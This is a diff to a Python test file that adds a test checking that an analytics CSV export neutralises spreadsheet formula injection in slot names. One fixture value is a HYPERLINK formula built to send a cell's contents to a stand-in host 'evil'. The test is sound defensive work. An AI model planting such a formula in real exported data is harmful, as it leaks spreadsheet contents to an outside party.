@@ -11,7 +11,7 @@ from services import analytics
 from services.core import clock
 from services.core.db import session_scope
 from services.core.errors import DomainError, Forbidden
-from services.core.models import Booking, QueueEntry, SlotSession
+from services.core.models import Booking, QueueEntry, Slot, SlotSession
 
 MSK = ZoneInfo("Europe/Moscow")
 # Wednesday 25 November 2026, 18:00 in Moscow.
@@ -123,6 +123,21 @@ def test_csv_export_has_a_row_per_slot_with_the_same_figures(week_of_work):
     assert len(by_id) == 10
     assert by_id["nbp"][2:4] == ["2", "5.0"]
     assert by_id["ppx-1"][7] == "1"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(week_of_work):
+    names = {"nbp": '=HYPERLINK("http://evil/?"&A1,"x")', "gpt-1": "+1+1", "ppx-1": "@SUM(A1)", "hf-1": "\t-2"}
+    with session_scope() as session:
+        for slot_id, name in names.items():
+            slot = session.get(Slot, slot_id)
+            slot.service_name = name
+            session.add(slot)
+    rows = list(csv.reader(io.StringIO(analytics.to_csv(analytics.utilisation(week_of_work.id, "month")))))
+    by_id = {r[0]: r for r in rows[2:]}
+    for slot_id, name in names.items():
+        assert by_id[slot_id][1] == "'" + name
+    # Figures stay plain numbers.
+    assert by_id["nbp"][2:4] == ["2", "5.0"]
 
 
 def test_report_refuses_regular_users_and_unknown_periods(week_of_work, make_user):
